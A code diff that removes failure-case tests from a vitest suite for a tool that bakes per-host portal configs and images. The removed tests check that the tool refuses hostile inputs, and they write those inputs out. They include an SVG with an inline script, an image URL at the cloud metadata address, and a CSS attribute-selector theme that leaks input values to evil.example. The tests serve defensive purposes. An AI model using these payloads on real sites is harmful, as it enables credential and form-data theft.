@@ -3,7 +3,6 @@ import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, wri
 import { join } from "node:path";
 import { Worker } from "node:worker_threads";
 import { afterEach, describe, expect, it, vi } from "vitest";
-import { type FixtureAnswer, type FixturePlan, portalConfigReply } from "../bench/fixture-provider.ts";
 import { canaryOf, hostName, manyHostsPlan } from "../bench/generated-hosts.ts";
 import { type BakeFixture, createBakeFixture } from "./bake-fixture.ts";
 import { exitCodeOf } from "./report.ts";
@@ -11,176 +10,11 @@ import { exitCodeOf } from "./report.ts";
 let fixture: BakeFixture;
 afterEach(() => fixture.close());
 
-const bad = hostName(1);
-/** The default provider with another response for one path of the bad host. */
-const failing =
-  (part: string, answer: FixtureAnswer | undefined): FixturePlan =>
-  (path) =>
-    path.includes(part) && path.includes(bad) ? answer : manyHostsPlan(path);
-const config = "GetApplicantPortalConfig";
-const ui = (value: unknown): FixtureAnswer => ({ body: { UiConfig: value } });
 /** The output folder without the versions of the hosts' folders. */
 const shownIn = (outDir: string) =>
   readdirSync(outDir)
     .filter((name) => name !== ".hosts")
     .sort();
-const logoFrom = (src: string) => portalConfigReply({ images: { ".portal-logo": { src } } });
-
-const kinds: readonly (readonly [string, FixturePlan, stage: string, reason: string])[] = [
-  ["responds with 500", failing(config, { status: 500 }), "portal config", "HTTP status 500"],
-  ["responds with 404", failing(config, undefined), "portal config", "HTTP status 404"],
-  [
-    "responds with an HTML page",
-    failing(config, { body: "<!doctype html>", type: "text/html" }),
-    "portal config",
-    "not JSON",
-  ],
-  ["sends an empty response", failing(config, { body: "" }), "portal config", "not JSON"],
-  [
-    "sends half a response",
-    failing(config, { body: { UiConfig: "{}" }, isCut: true }),
-    "portal config",
-    "the response is incomplete",
-  ],
-  ["sends invalid JSON", failing(config, { body: '{"UiConfig":"{' }), "portal config", "not JSON"],
-  [
-    "redirects",
-    failing(config, { status: 302, headers: { Location: "http://10.0.0.1/" } }),
-    "portal config",
-    "redirects",
-  ],
-  ["sends 3 MiB", failing(config, { body: `"${"a".repeat(3 << 20)}"` }), "portal config", "larger than"],
-  ["has no UiConfig", failing(config, { body: {} }), "portal config", "no UiConfig string"],
-  [
-    "has a UiConfig that is not a string",
-    failing(config, ui({ StyleConfig: {} })),
-    "portal config",
-    "no UiConfig string",
-  ],
-  ["has a UiConfig that is not JSON", failing(config, ui("{oops")), "portal config", "UiConfig is not JSON"],
-  ["has a UiConfig that is an array", failing(config, ui("[]")), "portal config", "UiConfig is not {"],
-  ["has a UiConfig that is null", failing(config, ui("null")), "portal config", "UiConfig is not {"],
-  [
-    "has a StyleConfig of numbers",
-    failing(config, ui('{"StyleConfig":{".card":{"gap":3}}}')),
-    "portal config",
-    "UiConfig is not {",
-  ],
-  [
-    "sends ten thousand nested arrays",
-    failing(config, ui("[".repeat(10_000))),
-    "portal config",
-    "too deeply",
-  ],
-  ["has an image that does not exist", failing(config, logoFrom("/gone.png")), "images", "HTTP status 404"],
-  [
-    "has an image from another origin",
-    failing(config, logoFrom("https://evil.example/a.png")),
-    "images",
-    "not allowed",
-  ],
-  [
-    "has an image at a private address",
-    failing(config, logoFrom("http://169.254.169.254/a")),
-    "images",
-    "not allowed",
-  ],
-  [
-    "has an image that redirects",
-    (path) =>
-      path === "/moved.png"
-        ? { status: 302, headers: { Location: "/a" } }
-        : failing(config, logoFrom("/moved.png"))(path),
-    "images",
-    "redirects",
-  ],
-  [
-    "has an image of 3 MiB",
-    (path) =>
-      path === "/big.png" ? { body: Buffer.alloc(3 << 20) } : failing(config, logoFrom("/big.png"))(path),
-    "images",
-    "larger than",
-  ],
-  [
-    "has an image that is an HTML page",
-    (path) =>
-      path === "/p.png" ? { body: "<html>", type: "image/png" } : failing(config, logoFrom("/p.png"))(path),
-    "images",
-    "not a PNG",
-  ],
-  [
-    "has an image with a script",
-    (path) =>
-      path === "/s.svg"
-        ? { body: "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>" }
-        : failing(config, logoFrom("/s.svg"))(path),
-    "images",
-    "<script>",
-  ],
-  [
-    "has a picture that takes seconds to draw",
-    (path) =>
-      path === "/t.svg"
-        ? { body: `<svg xmlns='http://www.w3.org/2000/svg'><text>${"a".repeat(10_000)}</text></svg>` }
-        : failing(config, logoFrom("/t.svg"))(path),
-    "images",
-    "t.svg): the SVG draws too many",
-  ],
-];
-
-describe("a host whose provider", () => {
-  it.each(kinds)(
-    "%s fails alone, with stage and reason, and the others are complete",
-    async (_, plan, stage, reason) => {
-      fixture = await createBakeFixture(3, plan);
-      const report = await fixture.bake();
-      expect(report.hosts.map(({ status }) => status)).toEqual(["baked", "failed", "baked"]);
-      expect(report.hosts[1]).toMatchObject({ host: bad, stage });
-      expect(report.hosts[1]?.reason).toContain(reason);
-      expect(exitCodeOf(report)).toBe(2);
-      expect(shownIn(fixture.outDir)).toEqual([hostName(0), hostName(2), "report.json"]);
-      expect(fixture.read(hostName(2)).get("index.html")).toContain(canaryOf(2));
-    },
-  );
-
-  it("is down keeps its last good output, and the bake ends with 1", async () => {
-    fixture = await createBakeFixture(2, manyHostsPlan);
-    await fixture.bake();
-    const before = [hostName(0), hostName(1)].map((host) => fixture.read(host));
-    fixture.compile({ id: "two" });
-    await fixture.provider.close();
-    const report = await fixture.bake();
-    expect(report.hosts.map(({ status, reason }) => [status, reason])).toEqual(
-      Array(2).fill(["kept", "connection refused"]),
-    );
-    expect(exitCodeOf(report)).toBe(1);
-    expect([hostName(0), hostName(1)].map((host) => fixture.read(host))).toEqual(before);
-  });
-
-  it("fails twice is requested a third time", async () => {
-    let count = 0;
-    fixture = await createBakeFixture(1, (path) => {
-      if (path.includes(config) && ++count < 3) return { status: 503 };
-      return manyHostsPlan(path);
-    });
-    expect((await fixture.bake()).hosts[0]?.status).toBe("baked");
-    expect(fixture.provider.requestedPaths.filter((path) => path.includes(config))).toHaveLength(3);
-  });
-
-  it("sends a malicious theme is baked without it and reported, and the bake ends with 2", async () => {
-    const hostile = portalConfigReply({
-      StyleConfig: { "input[value^=a]": { background: "url(//evil.example)" }, ".card": { gap: "1px" } },
-    });
-    fixture = await createBakeFixture(2, failing(config, hostile));
-    const report = await fixture.bake();
-    expect(report.hosts[1]).toMatchObject({ status: "baked", isMalicious: true });
-    expect(report.hosts[1]?.refused?.[0]).toContain("input[value^=a]");
-    expect(exitCodeOf(report)).toBe(2);
-    const theme = [...fixture.read(bad)].find(([path]) => path.startsWith("theme."))?.[1];
-    expect(theme).toContain(".card{gap:1px}");
-    expect(theme).not.toContain("evil.example");
-  });
-});
 
 /** Reads a file again and again until it gets a message, and sends what failed. */
 const readerScript = `
@@ -291,7 +125,7 @@ describe("a bake", () => {
 
   it("names a host file that cannot be read", async () => {
     fixture = await createBakeFixture(2, manyHostsPlan);
-    writeFileSync(join(fixture.hostsDir, `${bad}.json`), "{ oops");
+    writeFileSync(join(fixture.hostsDir, `${hostName(1)}.json`), "{ oops");
     const { hosts } = await fixture.bake();
     expect(hosts.map(({ status, stage }) => [status, stage])).toEqual([
       ["baked", undefined],
